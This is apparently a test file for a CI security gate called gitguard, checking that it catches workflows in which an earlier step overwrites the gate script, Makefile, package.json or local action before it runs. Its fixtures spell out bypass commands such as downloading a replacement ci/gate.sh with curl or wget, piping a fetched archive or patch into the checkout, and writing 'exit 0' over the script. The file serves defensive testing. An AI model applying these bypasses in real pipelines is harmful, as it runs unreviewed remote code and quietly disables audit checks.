// redteam156: an earlier step of the gate's job writes a file of the checkout the gate's chain runs
// (`curl -o ci/gate.sh URL`, `cp`, `sed -i`, `git checkout other -- ci/gate.sh`, `git apply`, `patch`,
// `tar x`, a Makefile or package.json written) and the gate step then runs it (`bash ci/gate.sh`,
// `make audit`, `npm run audit`). The chain read the file at the commit, the job runs the written one.
// Each lost case passed (exit 0) before the fix; the kept twins (a download into dist/ then `npx
// gitguard audit`, `npm ci` then `bash ci/gate.sh`, a write into /tmp) still do.
import { cleanupJobs, jobPasses } from '../helpers/real-job.js';
import { cleanupTemp } from '../helpers/repo.js';
import { gateBatch } from '../helpers/gate-batch.js';

afterAll(cleanupTemp);
afterAll(cleanupJobs);

const WF = '.github/workflows/ci.yml';
const FILES = {
  'ci/gate.sh': 'npx gitguard audit\n',
  'ci/setup.sh': 'echo setting up\n',
  Makefile: 'audit:\n\tnpx gitguard audit\n',
  'package.json': '{"name":"x","version":"1.0.0","scripts":{"audit":"npx gitguard audit"}}\n',
  '.github/actions/gate/action.yml':
    'name: gate\nruns:\n  using: composite\n  steps:\n    - run: npx gitguard audit\n      shell: bash\n',
};
/** A push workflow's one job: checkout, the `earlier` runs, then the gate step `gate` (YAML, six spaces in). */
const wf = (earlier: string[], gate = run('bash ci/gate.sh')): Record<string, string> => ({
  ...FILES,
  [WF]: `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${earlier.map(run).join('')}${gate}`,
});
function run(s: string): string {
  return `      - run: ${JSON.stringify(s)}\n`;
}
const HONEST = wf([]);
const URL = 'https://example.com/x';

type Case = [name: string, files: Record<string, string>];

const LOST: Case[] = [
  ['curl -o ci/gate.sh', wf([`curl -sSLo ci/gate.sh ${URL}`])],
  ['wget -O ci/gate.sh', wf([`wget -q -O ci/gate.sh ${URL}`])],
  ['cp over ci/gate.sh', wf(['cp /tmp/x ci/gate.sh'])],
  ['sed -i on ci/gate.sh', wf(["sed -i 's/audit/--version/' ci/gate.sh"])],
  ['a redirection into $GITHUB_WORKSPACE/ci/gate.sh', wf(['echo "exit 0" > "$GITHUB_WORKSPACE/ci/gate.sh"'])],
  ['git checkout other -- ci/gate.sh', wf(['git fetch origin other && git checkout FETCH_HEAD -- ci/gate.sh'])],
  ['git apply', wf([`curl -sSLo /tmp/p.diff ${URL} && git apply /tmp/p.diff`])],
  ['patch', wf([`curl -sSL ${URL} | patch -p1`])],
  ['tar x in the checkout', wf([`curl -sSL ${URL} | tar xz`])],
  ['a Makefile written, then make audit', wf([`curl -sSLo Makefile ${URL}`], run('make audit'))],
  ['package.json written, then npm run audit', wf(['cp /tmp/p.json package.json'], run('npm run audit'))],
  [
    'a checkout file written, run before the audit',
    wf(['cp /tmp/x ci/setup.sh', './ci/setup.sh'], run('npx gitguard audit')),
  ],
  ['written and run in the gate step', wf([], run('cp /tmp/x ci/setup.sh && bash ci/setup.sh && npx gitguard audit'))],
  [
    'the local action written',
    wf(['cp /tmp/a.yml .github/actions/gate/action.yml'], '      - uses: ./.github/actions/gate\n'),
  ],
];

const KEPT: Case[] = [
  ['the gate script as committed', HONEST],
  ['a download into dist/, then npx gitguard audit', wf([`curl -sSLo dist/x.tgz ${URL}`], run('npx gitguard audit'))],
  ['npm ci, then bash ci/gate.sh', wf(['npm ci'])],
  ['a write into /tmp, then bash ci/gate.sh', wf([`curl -sSLo /tmp/x ${URL}`, 'echo hi > /tmp/log'])],
  ['a write into $RUNNER_TEMP, then bash ci/gate.sh', wf([`curl -sSLo "$RUNNER_TEMP/x" ${URL}`])],
];

describe('redteam156: a checkout file written before the gate runs it', () => {
  const batch = gateBatch();
  for (const [name, after] of LOST) test(`lost: ${name}`, batch.add(HONEST, after, false), 600_000);
  for (const [name, after] of KEPT) test(`kept: ${name}`, batch.add(HONEST, after, true), 600_000);

  test('reference: real bash runs the written ci/gate.sh, not the commit one', () => {
    const files = { 'ci/gate.sh': 'npx gitguard audit\n' };
    expect(jobPasses([{ run: 'bash ci/gate.sh' }], files)).toBe(false);
    expect(jobPasses([{ run: 'printf "exit 0\\n" > ci/gate.sh' }, { run: 'bash ci/gate.sh' }], files)).toBe(true);
  });
});
